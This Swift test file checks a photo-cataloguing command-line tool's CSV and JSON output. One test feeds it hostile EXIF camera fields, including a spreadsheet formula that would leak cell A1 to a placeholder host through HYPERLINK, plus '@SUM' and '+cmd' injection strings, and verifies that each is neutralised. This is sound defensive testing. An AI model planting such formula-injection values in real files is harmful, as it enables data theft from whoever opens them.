import Foundation
import Testing

/// `probe` over a folder and a `catalogue` gather, through the binary: one CSV row and one JSON object per photo, in
/// item order, and a file flowrun cannot read failing its own item only.
@Suite struct CatalogueCLITests {
    let scratch: Scratch

    init() throws { scratch = try Scratch() }

    static let photos = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("examples/photos")

    @Test func aFolderBecomesACatalogue() throws {
        try FileManager.default.createDirectory(atPath: scratch.path("photos"), withIntermediateDirectories: true)
        for name in ["friends.jpg", "sunset.jpg"] {
            try FileManager.default.copyItem(
                atPath: Self.photos.appendingPathComponent(name).path, toPath: scratch.path("photos/" + name))
        }
        try scratch.write("photos/notes.jpg", "GIF89a not really")
        try scratch.write(
            "flow.yaml",
            """
            version: 1
            tasks:
              read: { type: fetch, forEach: { glob: "photos/*.jpg" }, url: "${item}" }
              info: { type: probe, dependsOn: read }
              table: { type: catalogue, gather: true, runIf: always, path: out/photos.csv, dependsOn: info }
              list: { type: catalogue, gather: true, runIf: always, path: out/photos.json, dependsOn: info }
            """)
        let result = try Flowrun.run(["flow.yaml", "--no-progress"], in: scratch.url)
        let output = result.stdout + result.stderr
        #expect(result.status == 1)
        #expect(
            output.contains(
                "error: info[photos/notes.jpg] failed: cannot probe 'photos/notes.jpg': this is a GIF image; convert it to JPEG, "
                    + "PNG, WebP, AVIF or TIFF first (e.g. with a `command`)"), "\(output)")
        let csv = try String(contentsOfFile: scratch.path("out/photos.csv"), encoding: .utf8)
        #expect(
            csv == """
                alpha,altitude,colorProfile,dateTaken,exposureTime,fNumber,focalLength,format,height,iso,latitude,\
                lens,longitude,make,model,orientation,source,width\r
                false,,,,,,,jpeg,1024,,,,,,,1,photos/friends.jpg,682\r
                false,,,,,,,jpeg,683,,,,,,,1,photos/sunset.jpg,1024\r

                """)
        let json = try Data(contentsOf: URL(fileURLWithPath: scratch.path("out/photos.json")))
        let objects = try #require(try JSONSerialization.jsonObject(with: json) as? [[String: Any]])
        #expect(objects.map { $0["source"] as? String } == ["photos/friends.jpg", "photos/sunset.jpg"])
    }

    /// Camera fields from EXIF with line breaks, commas and quotes stay in their cell (RFC 4180), and text that
    /// starts like a spreadsheet formula gets a single quote before it (OWASP); numbers, a negative longitude
    /// included, are written as they are.
    @Test func hostileCameraFieldsStayInTheirCellAndAreNotFormulas() throws {
        typealias E = ExifLayout.Entry
        let photo = try Fixtures.photo("seeding")
        func camera(make: String, model: String, lens: String) -> [UInt8] {
            ExifLayout(
                bigEndian: false,
                parts: [
                    (
                        "ifd0",
                        .directory([
                            E(0x010F, .ascii(make)), E(0x0110, .ascii(model)), E(0x8769, .offset("exif")),
                            E(0x8825, .offset("gps")),
                        ])
                    ),
                    ("exif", .directory([E(0xA434, .ascii(lens))])),
                    (
                        "gps",
                        .directory([
                            E(1, .ascii("N")), E(2, .rationals([(43, 1), (30, 1), (0, 1)])), E(3, .ascii("W")),
                            E(4, .rationals([(2, 1), (30, 1), (0, 1)])),
                        ])
                    ),
                ]
            ).bytes()
        }
        _ = try scratch.write(
            "photos/a.jpg",
            ExifLayout.jpeg(
                photo,
                exif: camera(
                    make: "Canon\r\nEvil,Corp", model: "=HYPERLINK(\"http://x.test/?\"&A1,\"go\")", lens: "@SUM(1+1)")))
        _ = try scratch.write(
            "photos/b.jpg", ExifLayout.jpeg(photo, exif: camera(make: "+cmd", model: "-2+3", lens: "\tTab \"lens\"")))
        try scratch.write(
            "flow.yaml",
            """
            version: 1
            tasks:
              read: { type: fetch, forEach: { glob: "photos/*.jpg" }, url: "${item}" }
              info: { type: probe, dependsOn: read }
              table: { type: catalogue, gather: true, path: out/photos.csv, dependsOn: info }
            """)
        let result = try Flowrun.run(["flow.yaml", "--no-progress", "--quiet"], in: scratch.url)
        #expect(result.status == 0 && result.stderr == "", "\(result.stdout)\(result.stderr)")
        let csv = try String(contentsOfFile: scratch.path("out/photos.csv"), encoding: .utf8)
        #expect(
            csv == #"""
                alpha,altitude,colorProfile,dateTaken,exposureTime,fNumber,focalLength,format,height,iso,latitude,\#
                lens,longitude,make,model,orientation,source,width\#r
                false,,,,,,,jpeg,576,,43.5,'@SUM(1+1),-2.5,"Canon\#r
                Evil,Corp","'=HYPERLINK(""http://x.test/?""&A1,""go"")",1,photos/a.jpg,1024\#r
                false,,,,,,,jpeg,576,,43.5,"'\#tTab ""lens""",-2.5,'+cmd,'-2+3,1,photos/b.jpg,1024\#r

                """#, "\(csv)")
    }
}
